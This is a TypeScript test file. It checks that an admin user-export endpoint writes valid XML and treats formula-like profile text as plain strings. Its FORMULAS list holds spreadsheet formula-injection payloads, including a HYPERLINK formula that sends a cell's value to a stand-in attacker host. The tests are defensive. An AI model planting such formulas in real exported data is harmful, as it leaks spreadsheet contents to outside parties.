import ExcelJS from 'exceljs';
import Fastify from 'fastify';
import type { LightMyRequestResponse } from 'fastify';
import { XMLValidator } from 'fast-xml-parser';
import yauzl from 'yauzl';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildUser,
  Client,
  createTestContext,
  type TestContext,
  signedInAdmin,
} from '../../test/helpers';
import { sendXlsx } from './xlsx-export';

/**
 * Issue 13 item 10: text a person typed (a profile, a name) must not break an export nor run in
 * the spreadsheet: every cell is valid XML 1.0 text, and a cell that looks like a formula is a
 * string that Excel and LibreOffice show, never a formula they evaluate.
 */
let t: TestContext;
let admin: Client;

beforeAll(async () => {
  t = await createTestContext();
  admin = await signedInAdmin(t);
});
afterAll(async () => t?.close());

/** XML 1.0's Char production: what may appear in a document at all. */
const XML_CHAR = /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]*$/u;

/** The first worksheet's XML, decoded strictly as UTF-8. */
async function sheetXml(res: LightMyRequestResponse): Promise<string> {
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  const zip = await yauzl.fromBufferPromise(res.rawPayload, { lazyEntries: true });
  const bytes = await new Promise<Buffer>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      if (entry.fileName !== 'xl/worksheets/sheet1.xml') return zip.readEntry();
      zip.openReadStream(entry, (error, stream) => {
        if (error) return reject(error);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => resolve(Buffer.concat(chunks)));
      });
    });
    zip.on('end', () => reject(new Error('no sheet1.xml')));
    zip.on('error', reject);
    zip.readEntry();
  });
  zip.close();
  return new TextDecoder('utf-8', { fatal: true }).decode(bytes);
}

/** The rows of the first sheet as ExcelJS reads them back. */
async function rowsOf(res: LightMyRequestResponse): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** Every cell of the sheet XML as [type attribute, has a formula, text]. */
function cells(xml: string) {
  return [...xml.matchAll(/<c\b([^>]*)>(.*?)<\/c>/g)].map(([, attrs, body]) => ({
    type: /\bt="([^"]+)"/.exec(attrs ?? '')?.[1],
    formula: /<f\b/.test(body ?? ''),
    body: body ?? '',
  }));
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

describe('export cells (issue 13 item 10)', () => {
  it('a learner whose profile holds U+FFFE, U+FFFF and control characters exports as valid XML with the text cleaned', async () => {
    const tag = `Exp${Date.now().toString(36)}`;
    await buildUser(t.db, {
      first_name: `${tag}\uFFFEA\u0001n\u000Bn\u001F`,
      last_name: 'Lee\uFFFF\u0008',
      department: 'Sales\u0085 team',
      position: 'ครู\u000C',
    });
    const res = await admin.get(`/api/dashboard/user/export/?search=${tag}`);
    const xml = await sheetXml(res);
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(XML_CHAR.test(xml)).toBe(true);
    const rows = await rowsOf(res);
    const row = rows.find((r) => String(r[2]).startsWith(tag));
    expect(row?.slice(2, 4)).toEqual([`${tag}Ann`, 'Lee']);
    expect(row).toContain('ครู');
    expect(row).toContain('Sales\u0085 team');
  });

  it('text that looks like a formula is exported as a string, never as a formula', async () => {
    const tag = `Fx${Date.now().toString(36)}`;
    for (const [i, text] of FORMULAS.entries())
      await buildUser(t.db, { first_name: `${tag}${i}`, last_name: text });
    const res = await admin.get(`/api/dashboard/user/export/?search=${tag}&ordering=first_name`);
    const xml = await sheetXml(res);
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(cells(xml).some((c) => c.formula)).toBe(false);
    const hyperlink = cells(xml).find((c) => c.body.includes('HYPERLINK'));
    expect(['s', 'inlineStr', 'str']).toContain(hyperlink?.type);
    const rows = await rowsOf(res);
    const lastNames = rows.filter((r) => String(r[2]).startsWith(tag)).map((r) => r[3]);
    // Read back as the text typed (a formula would come back as an object with `formula`); a CR
    // is written as LF, as any XML reader would read it.
    expect(lastNames).toEqual(FORMULAS.map((f) => f.replace('\r', '\n')));
  });

  it('a lone surrogate is dropped and a character outside the BMP kept', async () => {
    const app = Fastify();
    app.get('/x', (_request, reply) =>
      sendXlsx<{ text: string }>(reply, {
        name: 'cells',
        sheet: { en: 'Cells', th: 'เซลล์' },
        language: 'en',
        columns: [{ header: { en: 'Text', th: 'ข้อความ' }, value: (r) => r.text }],
        source: {
          count: () => Promise.resolve(1),
          rows: (_limit, offset) =>
            Promise.resolve(offset === 0 ? [{ text: 'a\uD800b\uDC00c😀' }] : []),
        },
      }),
    );
    const res = await app.inject({ url: '/x' });
    const xml = await sheetXml(res);
    expect(XML_CHAR.test(xml)).toBe(true);
    expect((await rowsOf(res))[1]).toEqual(['abc😀']);
    await app.close();
  });
});
